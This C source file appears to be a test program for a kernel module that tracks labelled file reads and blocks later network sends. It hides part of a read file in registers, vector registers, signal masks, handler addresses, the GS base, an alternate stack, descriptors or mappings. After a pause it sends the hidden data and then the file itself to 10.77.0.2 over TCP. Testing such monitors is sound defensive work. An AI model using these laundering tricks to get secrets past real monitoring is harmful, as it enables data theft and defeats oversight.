// SPDX-License-Identifier: GPL-2.0-only
/*
 * Reads a labelled file, keeps of it what is said, sends something else after a
 * while, then what it has kept, then the file.
 *   merge FILE stack|heap|open|harmless   keeps nothing: the part of the stack that is free again; freed and cleared memory; the
 *                                         open file; a mask of signals of its own
 *   merge FILE kept|register|vector|mapped|mask|handler|base|altstack
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <asm/prctl.h>
#include <fcntl.h>
#include <immintrin.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* More than the module waits after a read. */
static const struct timespec pause_of_reads = { .tv_sec = 1, .tv_nsec = 300000000 };
static char kept[8];
static int out;

static void connect_out(void)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(9) };

	out = socket(AF_INET, SOCK_STREAM, 0);
	inet_pton(AF_INET, "10.77.0.2", &address.sin_addr);
	if (connect(out, (void *)&address, sizeof(address))) {
		perror("connect");
		exit(1);
	}
}

static void send_out(const void *data, size_t size)
{
	if (write(out, data, size) < 0)
		perror("write");
}

/* What the C library's functions have left there. */
__attribute__((target("avx"))) static void clear_vectors(void)
{
	_mm256_zeroall();
}

static int open_file(const char *file)
{
	int fd = open(file, O_RDONLY);

	if (fd < 0) {
		perror(file);
		exit(1);
	}
	return fd;
}

__attribute__((noinline)) static void read_to_stack(const char *file)
{
	volatile char data[2048];
	int fd = open_file(file);

	if (read(fd, (void *)data, sizeof(data)) < 8)
		exit(1);
	close(fd);
}

/* Where read_to_stack() had its data. */
__attribute__((noinline)) static void send_stack(void)
{
	char data[2048];

	asm volatile("" : "=m"(data));
	send_out(data, sizeof(data));
}

static void read_to_heap(const char *file)
{
	char *data = malloc(100000);
	int fd = open_file(file);

	if (read(fd, data, 100000) < 8)
		exit(1);
	close(fd);
	explicit_bzero(data, 100000);
	free(data);
}

static int read_open(const char *file)
{
	int fd = open_file(file);

	if (pread(fd, kept, sizeof(kept), 17) != sizeof(kept))
		exit(1);
	return fd;
}

static void send_register(void)
{
	static const char text[] = "one\n";
	register unsigned long secret asm("rbx") = *(unsigned long *)kept;
	unsigned long copy;
	long result = 1;

	explicit_bzero(kept, sizeof(kept));
	nanosleep(&pause_of_reads, NULL);
	asm volatile("syscall"
		     : "+a"(result), "+r"(secret)
		     : "D"((long)out), "S"(text), "d"(4L)
		     : "rcx", "r11", "memory");
	copy = secret;
	send_out(&copy, sizeof(copy));
}

static void send_vector(void)
{
	static const char text[] = "one\n";
	long long secret = *(long long *)kept;
	long result = 1;

	asm volatile("movq %0, %%xmm15" : : "r"(secret) : "xmm15");
	secret = 0;
	explicit_bzero(kept, sizeof(kept));
	nanosleep(&pause_of_reads, NULL);
	asm volatile("syscall" : "+a"(result) : "D"((long)out), "S"(text), "d"(4L) : "rcx", "r11", "memory");
	asm volatile("movq %%xmm15, %0" : "=r"(secret));
	send_out(&secret, sizeof(secret));
}

static void pass_time(void)
{
	clear_vectors();
	nanosleep(&pause_of_reads, NULL);
	send_out("one\n", 4);
}

/* Into what the kernel keeps for a process. */
static void put_away(const char *how, unsigned long secret)
{
	struct sigaction action = { .sa_handler = (void (*)(int))secret };
	stack_t stack = { .ss_sp = (void *)secret, .ss_size = 65536 };

	if (!strcmp(how, "mask") || !strcmp(how, "harmless"))
		syscall(SYS_rt_sigprocmask, SIG_SETMASK, &secret, NULL, 8);
	else if (!strcmp(how, "handler"))
		sigaction(SIGRTMAX, &action, NULL);
	else if (!strcmp(how, "base"))
		syscall(SYS_arch_prctl, ARCH_SET_GS, secret & 0x7fffffffffff);
	else
		sigaltstack(&stack, NULL);
	explicit_bzero(&action, sizeof(action));
	explicit_bzero(&stack, sizeof(stack));
}

static unsigned long take_back(const char *how)
{
	struct sigaction action = {};
	stack_t stack = {};
	unsigned long secret = 0;

	if (!strcmp(how, "mask") || !strcmp(how, "harmless")) {
		syscall(SYS_rt_sigprocmask, SIG_SETMASK, NULL, &secret, 8);
	} else if (!strcmp(how, "handler")) {
		sigaction(SIGRTMAX, NULL, &action);
		secret = (unsigned long)action.sa_handler;
	} else if (!strcmp(how, "base")) {
		syscall(SYS_arch_prctl, ARCH_GET_GS, &secret);
	} else {
		sigaltstack(NULL, &stack);
		secret = (unsigned long)stack.ss_sp;
	}
	return secret;
}

static void send_kernel_state(const char *how)
{
	unsigned long secret = *(unsigned long *)kept;

	explicit_bzero(kept, sizeof(kept));
	put_away(how, strcmp(how, "harmless") ? secret : 1UL << 40);
	secret = 0;
	pass_time();
	secret = take_back(how);
	send_out(&secret, sizeof(secret));
	explicit_bzero(&secret, sizeof(secret));
}

static void send_file(const char *file)
{
	char data[256];
	int fd = open_file(file);
	ssize_t size = read(fd, data, sizeof(data));

	send_out(data, size < 0 ? 0 : size);
}

static int act(const char *file, const char *how)
{
	const char *mapped;
	int fd = -1;

	if (!strcmp(how, "stack")) {
		read_to_stack(file);
		pass_time();
		send_stack();
	} else if (!strcmp(how, "heap")) {
		read_to_heap(file);
		pass_time();
	} else if (!strcmp(how, "open")) {
		fd = read_open(file);
		explicit_bzero(kept, sizeof(kept));
		pass_time();
		if (read(fd, kept, sizeof(kept)) != sizeof(kept))
			return 1;
		send_out(kept, sizeof(kept));
	} else if (!strcmp(how, "kept")) {
		close(read_open(file));
		pass_time();
		send_out(kept, sizeof(kept));
	} else if (!strcmp(how, "register") || !strcmp(how, "vector")) {
		close(read_open(file));
		clear_vectors();
		*how == 'r' ? send_register() : send_vector();
	} else if (!strcmp(how, "mask") || !strcmp(how, "handler") || !strcmp(how, "base") ||
		   !strcmp(how, "altstack") || !strcmp(how, "harmless")) {
		close(read_open(file));
		send_kernel_state(how);
	} else if (!strcmp(how, "mapped")) {
		fd = open_file(file);
		mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
		pass_time();
		send_out(mapped + 17, 8);
	} else {
		return 2;
	}
	return 0;
}

int main(int argc, char **argv)
{
	int result;

	if (argc != 3)
		return 2;
	connect_out();
	result = act(argv[1], argv[2]);
	send_file(argv[1]);
	return result;
}
